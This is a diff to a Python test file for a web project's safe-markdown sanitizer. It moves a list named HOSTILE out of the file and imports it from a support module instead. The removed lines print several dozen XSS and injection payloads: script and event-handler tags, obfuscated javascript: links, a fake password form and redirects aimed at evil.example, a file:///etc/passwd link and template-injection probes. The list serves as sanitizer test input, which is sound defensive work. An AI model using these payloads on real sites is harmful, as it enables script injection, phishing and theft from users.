@@ -10,6 +10,7 @@ import pytest
 from selectolax.lexbor import LexborHTMLParser
 
 from support.effort import assert_linear
+from support.hostile import HOSTILE
 from webquarry.doctor.content.attack import Page
 from webquarry.doctor.content.attacks import markup
 from webquarry.web.playground import answer_job, folding
@@ -18,61 +19,6 @@ from webquarry.web.playground.safe_markdown import MAX_MARKS, SCHEMES, render
 from webquarry_convert.page import to_markdown
 
 ALLOWED = {"a": {"href", "rel", "target"}, "ol": {"start"}, "td": {"align"}, "th": {"align"}}
-HOSTILE = [
-    "<script>ran()</script>",
-    "<img src=x onerror=ran()>",
-    "<svg onload=ran()><script>ran()</script></svg>",
-    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
-    "<object data=javascript:ran()></object><embed src=javascript:ran()>",
-    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
-    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/a.css>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    "<style>@import 'https://evil.example/a.css'; body{display:none}</style>",
-    "<a href=javascript:ran()>a</a>",
-    "<details open ontoggle=ran()>x</details><video src=x onerror=ran()></video>",
-    "<math><mi xlink:href=javascript:ran()>x</mi></math>",
-    "<p id=main class='notice bad' style='position:fixed;inset:0'>Your session has ended</p>",
-    "<!--><img src=x onerror=ran()>-->",
-    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
-    "<x/onclick=ran()>x</x><isindex type=image src=1 onerror=ran()>",
-    "[a](javascript:ran())",
-    "[a](JaVaScRiPt:ran())",
-    "[a](java\tscript:ran())",
-    "[a](&#106;avascript:ran())",
-    "[a](&#x6A;avascript&colon;ran())",
-    "[a](javascript&Tab;:ran())",
-    "[a](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
-    "[a](vbscript:ran())",
-    "[a](blob:https://example.com/x)",
-    "[a](file:///etc/passwd)",
-    "[a](//evil.example/x)",
-    "[a](/account)",
-    "[a](?q=1)",
-    "[a](#main)",
-    '[a](https://example.com/" onclick="ran())',
-    '[a](<https://example.com/ "onmouseover=ran()>)',
-    "[a](https://example.com 'x\" onmouseover=\"ran()')",
-    "[a]: javascript:ran()\n\n[a]",
-    "[a]: <javascript:ran()>\n\n![a][a]",
-    "<javascript:ran()>",
-    "![a](https://evil.example/pixel.png)",
-    '![a" onerror="ran()](x)',
-    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cmFuKCk+)",
-    "![a](javascript:ran())",
-    "[![a](https://evil.example/p.png)](https://evil.example/)",
-    "![[b](javascript:ran())](https://evil.example/p.png)",
-    "```html onload=ran()\n</code></pre><script>ran()</script>\n```",
-    "`</code><script>ran()</script>`",
-    "| a | <script>ran()</script> |\n|---|---|\n| <img src=x onerror=ran()> | [x](javascript:ran()) |",
-    "# <img src=x onerror=ran()>\n\n## a {#main .notice onclick=ran()}",
-    "\u202e\u2066gnp.exe\u2069 \u0000 \ufffe",
-    "</main></body></html><script>ran()</script>",
-    '"></iframe><script>ran()</script>',
-    "' srcdoc='<script>ran()</script>",
-    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7 %>",
-    "https://example.com/<script>ran()</script>",
-    '<https://example.com/?a="><script>ran()</script>>',
-]
 
 
 def judge(html: str) -> None:
